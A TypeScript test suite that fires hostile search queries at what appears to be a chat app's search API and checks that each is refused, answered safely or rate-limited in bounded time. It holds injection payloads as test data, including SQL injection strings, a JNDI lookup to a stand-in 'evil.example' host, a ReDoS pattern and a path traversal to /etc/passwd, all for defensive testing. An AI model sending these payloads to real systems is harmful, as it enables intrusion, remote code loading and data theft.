// What somebody may type into the search box, or write into its address: all of it is only ever words, is answered in
// bounded time, and is never a fault of ours.
import { describe, expect, it } from 'vitest';
import type { SearchResult } from '../../schemas/views.ts';
import { groupOf, Person } from '../client/person.ts';
import type { Scene } from './scene.ts';

/** For a request that asks as much as it may, on a busy machine. */
const answeredWithinMs = 5_000;
const atOnce = 60;

const upTo = (length: number, part: (n: number) => string): string => {
  let text = '';
  for (let n = 0; text.length + part(n).length <= length; n += 1) text += part(n);
  return text;
};

const typed: Record<string, string> = {
  'every operator of FTS5': 'a AND b OR NOT c NEAR(d e, 2) ^f {exact folded} : g + h * -i',
  'columns of FTS5': 'facets:c0 exact:a - {facets} : r words.rowid',
  'a call of FTS5': "') UNION SELECT id, rev FROM documents --",
  'quotes without end': '"a "b" "" """ \' \'\' `',
  'quotes only': '"'.repeat(1_000),
  'the language of Lucene': '+a -b && c || !d (e) {f} [g TO h] i^2 j~1 k:l \\m /n/ _exists_:id',
  'ranges and wildcards': '[* TO *] * ? a*b?c ******** ????????',
  'a query in JSON': '{"query":{"script":{"source":"while(true){}"}},"size":1000000}',
  'regular expressions': '/(a+)+$/ .*.*.*.*x (?=a)(?!b) [^\\x00-\\xff]{9999} \\p{L}+',
  'a template': `{{#toJson}}params{{/toJson}} ${'$'}{jndi:ldap://evil.example/a}`,
  'control characters': '\u0000\u0001\u0007\u001b[31m\u007f\u0085\u2028\u2029 a\u0000b',
  'zero width and marks of direction': '\u200b\u200c\u200d\u2060\ufeff\u202e\u2066 a\u200bb',
  'a letter under 900 accents': `a${'\u0301'.repeat(900)}`,
  'accents without a letter': '\u0301'.repeat(1_000),
  'one word of 1,000 letters': 'a'.repeat(1_000),
  'one word of 1,000 Chinese letters': '的'.repeat(1_000),
  'families of emoji': '👨‍👩‍👧‍👦'.repeat(80),
  'letters of every script': 'aбγאعकกあ한中𐍈𝒳',
  '32 beginnings of words': Array.from({ length: 32 }, (_, n) => `${'aeiou'[n % 5]}${n % 10}`).join(' '),
  '32 words to be without': Array.from({ length: 32 }, (_, n) => `-w${n}`).join(' '),
  '32 phrases': Array.from({ length: 32 }, (_, n) => `"a b c d e ${n}"`).join(' '),
  'operators without a value': 'from: in: before: after: on: has: is: mentions: -from:',
  'operators in operators': 'from:in:has:is:from:me in:"from:me" -from:me -"in:x" from:"',
  'dates that are none': 'on:0000 before:9999-99-99 after:2026-02-30x on:1e9 before:-1',
  'names like prototypes': 'from:__proto__ in:constructor mentions:toString has:prototype',
};

const refused: Record<string, Record<string, string>> = {
  '10 KB': { q: 'a b '.repeat(2_500) },
  'thousands of words': { q: 'a '.repeat(5_000) },
  'more words than may be': { q: upTo(1_000, (n) => `w${n} `) },
  'hundreds of senders': { q: upTo(1_000, (n) => `from:u${n} `) },
  'hundreds of places': { q: upTo(1_000, (n) => `in:p${n} `) },
  'hundreds of people mentioned': { q: upTo(1_000, (n) => `mentions:u${n} `) },
  'hundreds of words to be without': { q: upTo(1_000, (n) => `-w${n} `) },
  'a cursor of nothing': { q: 'a', cursor: 'e30' },
  'a cursor of too much': { q: 'a', cursor: Buffer.from(`[${'1,'.repeat(500)}1]`).toString('base64url') },
  'a cursor of text': { q: 'a', cursor: Buffer.from('["a","b","c","d"]').toString('base64url') },
  'a cursor of depth': { q: 'a', cursor: Buffer.from('['.repeat(2_000)).toString('base64url') },
  'a cursor that is too long': { q: 'a', cursor: 'a'.repeat(5_000) },
  'an order that is not known': { q: 'a', sort: '_score' },
  'a page without end': { q: 'a', limit: '1e9' },
  'an id that is none': { q: 'a', conversationId: "' OR 1=1 --" },
  'a sender that is a list': { q: 'a', senderId: '["x"]' },
  'a kind that is not known': { q: 'a', has: 'link,file' },
  'a time that is a sum': { q: 'a', from: 'now-1d/d' },
  'a zone with a path': { q: 'a', timeZone: '../../../etc/passwd' },
  'a parameter that is not known': { q: 'a', index: '_all' },
};

/** Well formed, and beyond everything that there is. */
const strange: Record<string, Record<string, string>> = {
  'a cursor before all time': { q: 'a', cursor: Buffer.from('[0,0]').toString('base64url') },
  'a cursor after all time': { q: 'a', cursor: Buffer.from('[3,9007199254740991]').toString('base64url') },
  'a cursor of a tier that is none': { q: 'a', cursor: Buffer.from('[99,5]').toString('base64url') },
  'the first moment': { q: 'a', from: '0000-01-01T00:00:00Z' },
  'the last moment': { q: 'a', to: '9998-12-31T23:59:59.999999999+14:00' },
  'the end before the beginning': { q: 'a', from: '2030', to: '2020' },
};

export const hostileSearches = (scene: () => Scene) =>
  describe('hostile searches', () => {
    let searcher: Promise<Person> | undefined;
    /** Somebody who has something to find. */
    const person = (): Promise<Person> => {
      searcher ??= (async () => {
        const ann = await Person.online(scene().server.url, 'ann');
        const { id } = await groupOf(ann, [await Person.register(scene().server.url, 'bob')], 'group');
        for (const text of ['a b c', 'the words of a message', '"quoted" * AND']) await ann.say(id, text);
        return ann;
      })();
      return searcher;
    };
    const ask = async (query: Record<string, string>) => {
      const { token } = await person();
      const began = performance.now();
      const answer = await fetch(`${scene().server.url}/api/search?${new URLSearchParams(query)}`, {
        headers: { authorization: `Bearer ${token}` },
      });
      const body = (await answer.json()) as SearchResult;
      expect(performance.now() - began).toBeLessThan(answeredWithinMs);
      return { status: answer.status, body, retryAfter: answer.headers.get('retry-after') };
    };

    it.each(Object.entries(typed))('are words and nothing else: %s', async (_, q) => {
      const { status, body } = await ask({ q });
      expect([200, 400]).toContain(status);
      if (status === 200) expect(body.items.length).toBeLessThanOrEqual(3);
    });

    it.each(Object.entries(refused))('are refused: %s', async (_, query) => {
      expect((await ask(query)).status).toBe(400);
    });

    it.each(Object.entries(strange))('are answered: %s', async (_, query) => {
      expect((await ask(query)).status).toBe(200);
    });

    it('that come all at once are answered, or told when to come again', async () => {
      const q = typed['32 beginnings of words'] as string;
      const answers = await Promise.all(Array.from({ length: atOnce }, () => ask({ q })));
      const statuses = new Set(answers.map(({ status }) => status));
      expect(statuses).toContain(200);
      expect([...statuses].filter((status) => status !== 200 && status !== 429)).toEqual([]);
      for (const { status, retryAfter } of answers) if (status === 429) expect(Number(retryAfter)).toBe(1);
      expect((await ask({ q: 'message' })).status).toBe(200);
    });
  });
